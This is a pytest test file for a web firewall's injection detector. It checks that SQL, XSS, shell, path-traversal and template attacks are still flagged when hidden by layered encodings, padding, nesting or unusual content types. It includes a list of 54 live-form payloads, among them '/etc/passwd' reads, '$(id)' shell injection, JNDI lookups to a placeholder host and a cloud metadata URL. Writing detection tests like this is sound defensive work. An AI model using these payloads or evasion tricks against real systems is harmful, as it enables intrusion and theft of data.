@@ -1,0 +1,208 @@
+"""Stories of attacks that hide from whoever looks for them, told to the gate as requests."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+from urllib.parse import quote
+
+import pytest
+
+from injection_harness import CLIMB, COMMAND, HEADERS, SQL, XSS, as_json, gate, post, query, request, said
+from sallygate.model.request import EMPTY_BODY
+
+ATTACKS = {"sql": SQL, "xss": XSS, "command": COMMAND, "traversal": CLIMB}
+every = pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
+
+
+def percent(text: str) -> str:
+    return "".join(f"%{byte:02X}" for byte in text.encode())
+
+
+@every
+def test_encoded_so_often_that_only_the_application_gets_to_the_bottom(attack: str) -> None:
+    text = percent(attack)
+    for _ in range(8):
+        assert said(request("/", "q=" + text)) != []
+        text = text.replace("%", "%25")
+
+
+@every
+def test_in_a_mixture_of_encodings(attack: str) -> None:
+    entities = "".join(f"&#{ord(char)};" for char in attack)
+    escapes = "".join(f"\\u{ord(char):04x}" for char in attack)
+    for text in (
+        entities,
+        escapes,
+        percent(entities),
+        percent(escapes),
+        "".join(f"\\x{ord(char):02x}" for char in attack),
+    ):
+        assert said(query(text)) != [], text[:40]
+        assert said(as_json({"a": text})) != []
+
+
+@every
+def test_in_base64_of_either_alphabet_with_or_without_padding(attack: str) -> None:
+    for text in (
+        base64.b64encode(attack.encode()).decode(),
+        base64.urlsafe_b64encode(attack.encode()).decode().rstrip("="),
+    ):
+        assert said(query(text)) != []
+        assert said(request("/" + quote(text, safe="") + "/x")) != []
+        assert said(request("/", "", (b"cookie", f"a={text}".encode()))) != []
+
+
+@every
+def test_behind_more_text_than_anybody_reads(attack: str) -> None:
+    for padding in (
+        "x" * 9000 + " ",
+        "lorem ipsum dolor sit amet " * 3000,
+        "don't " * 2000,
+        "a=1&b=2; " * 2000,
+        "<b>x</b> " * 1500,
+    ):
+        assert said(as_json({"a": padding + attack})) != [], padding[:10]
+
+
+@every
+def test_after_a_hundred_thousand_honest_fields_or_very_deep(attack: str) -> None:
+    assert said(as_json({**{f"f{n}": n for n in range(10_000)}, "z": attack})) != []
+    tree: object = attack
+    for _ in range(14):
+        tree = [{"a": tree}]
+    assert said(as_json(tree)) != []
+
+
+@every
+def test_in_json_within_json_within_json(attack: str) -> None:
+    text = attack
+    for _ in range(3):
+        text = json.dumps({"a": text})
+        assert said(query(text)) != []
+
+
+@every
+def test_under_a_media_type_nobody_looks_into(attack: str) -> None:
+    for media in (
+        "image/png",
+        "application/octet-stream",
+        "application/x-anything",
+        "text/csv",
+        "video/mp4",
+        "application/pdf",
+        "",
+    ):
+        assert said(post(json.dumps({"a": attack}), media)) != [], media
+        assert said(post(f"a=1&b={quote(attack)}", media)) != [], media
+
+
+@every
+def test_in_a_body_that_is_not_what_it_is_called(attack: str) -> None:
+    assert said(post(f'{{"a": {json.dumps(attack)}, }}')) != [], "broken JSON that lenient parsers take"
+    assert said(post(f"{{a: '{attack.replace(chr(39), chr(92) + chr(39))}'}}")) != []
+    assert said(post(json.dumps({"a": attack}), "application/x-www-form-urlencoded")) != []
+    assert (
+        said(
+            post(gzip.compress(json.dumps({"a": attack}).encode()), "application/json", (b"content-encoding", b"gzip"))
+        )
+        != []
+    )
+
+
+@every
+def test_as_a_name_instead_of_a_value(attack: str) -> None:
+    assert said(request("/", quote(attack, safe="") + "=1")) != []
+    assert said(as_json({attack: 1})) != []
+    assert said(post(quote(attack, safe="") + "=1", "application/x-www-form-urlencoded")) != []
+    assert said(request("/", "", (b"cookie", quote(attack, safe="").encode() + b"=1"))) != []
+
+
+@every
+def test_in_a_multipart_field_in_its_name_or_in_the_name_of_its_file(attack: str) -> None:
+    media = "multipart/form-data; boundary=x"
+    field = attack.replace('"', "%22")
+    for head, data in (('name="a"', attack), (f'name="{field}"', "1"), (f'name="a"; filename="{field}"', "1")):
+        found = said(post(f"--x\r\nContent-Disposition: form-data; {head}\r\n\r\n{data}\r\n--x--\r\n", media))
+        assert found != [], head
+
+
+@every
+def test_in_xml(attack: str) -> None:
+    from html import escape
+
+    for text in (
+        f"<a>{escape(attack)}</a>",
+        f'<a b="{escape(attack)}"/>',
+        f"<a><![CDATA[{attack}]]></a>",
+        f"<a><!-- x --><b>{escape(attack)}</b></a>",
+    ):
+        assert said(post(text, "application/xml")) != [], text
+
+
+@every
+def test_full_width_or_with_invisible_characters(attack: str) -> None:
+    wide = "".join(chr(ord(char) + 0xFEE0) if char in "<>'/.;()=" else char for char in attack)
+    assert said(as_json({"a": wide})) != []
+    if "etc" not in attack:
+        hidden = attack[:4] + "\u200b" + attack[4:]
+        assert said(as_json({"a": hidden})) != []
+
+
+SMALL = [
+    "' or 1=1--", "admin'--", "1 or sleep(5)", "1;select pg_sleep(5)", "'||(select 1)||'", "1'/**/or/**/'1'='1", "/*!50000union*/ select 1",
+    "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", '" autofocus onfocus=alert(1) x="', "'-alert(1)-'", "<ScRiPt>x</sCrIpT>",
+    "|id", "`id`", "$(id)", "&& whoami", "a;c''at /etc/passwd", "() { :;}; echo x", "{cat,/etc/passwd}", "cat$IFS/etc/passwd",
+    "..%2f..%2fetc/passwd", "....//....//etc/passwd", "/etc/passwd", "c:\\windows\\win.ini", "php://filter/convert.base64-encode/resource=x", "..;/..;/x",
+    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__}}", "${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}",
+    "*)(uid=*))(|(uid=*", '{"$gt": ""}', "'; return true; //", "'] | //user/*[contains(*,'", "a\r\nSet-Cookie: x=1", "x\nBcc: a@b.example\n",
+    "http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://[::ffff:a9fe:a9fe]/", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+    'O:8:"stdClass":1:{s:1:"a";i:1;}', "__proto__[admin]=1", "<?php system('id'); ?>", "require('child_process')", "__import__('os').system('id')",
+    "<!--#exec cmd=\"id\"-->", "%{(#a=@java.lang.Runtime@getRuntime())}", "query { __schema { types { name } } }", "system('id')",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("value", SMALL)
+def test_one_of_each(value: str) -> None:
+    assert said(query(value)) != [] and said(as_json({"a": value})) != []
+
+
+def test_how_many_there_are() -> None:
+    assert len(SMALL) == 54
+
+
+def test_a_decoy_that_spends_the_work_does_not_open_the_gate() -> None:
+    for decoy in ("' or ", "<a b=c>", "../", "$(x ", "{{a.b", "&lt;", "%253c", "/etc/x ", "*)(a="):
+        assert said(as_json({"a": decoy * (200_000 // len(decoy)), "z": SQL})) != [], decoy
+
+
+def test_an_exclusion_for_one_field_is_no_way_in_for_another() -> None:
+    section = "exclude: [{family: sql, field: 'body:/text'}]"
+    assert said(as_json({"text": SQL}), section) == []
+    for tree in ({"text": {"x": SQL}}, {"Text": SQL}, {"text ": SQL}, {"a": {"text": SQL}}, [{"text": SQL}]):
+        assert said(as_json(tree), section) != [], tree
+    assert said(as_json({"text": XSS}), section) != []
+
+
+def test_stripping_does_not_put_an_attack_together() -> None:
+    control = gate("act: strip, strip: ['query:q']").gate.engine.controls.injection
+    assert control is not None
+    passed = 0
+    for value in (
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "..././..././x",
+        "un<b onclick=x()>ion sel<b onclick=x()>ect a from b",
+        'jav"ascript:alert`1`',
+    ):
+        head = gate().gate.reader.read(
+            method="GET", scheme="https", raw_path=b"/", raw_query=b"q=" + quote(value, safe="").encode(), headers=HEADERS,
+            http_version="1.1", peer="192.0.2.7", request_id="0", now=0.0,
+        )  # fmt: skip
+        findings, edit = control.judge("", head, EMPTY_BODY)
+        assert findings
+        if edit is not None:
+            passed += 1
+            assert edit.raw_query is not None and not set(b"<>\"'`;(){}") & set(edit.raw_query)
+            assert said(request("/", edit.raw_query.decode())) == []
+    assert passed >= 2
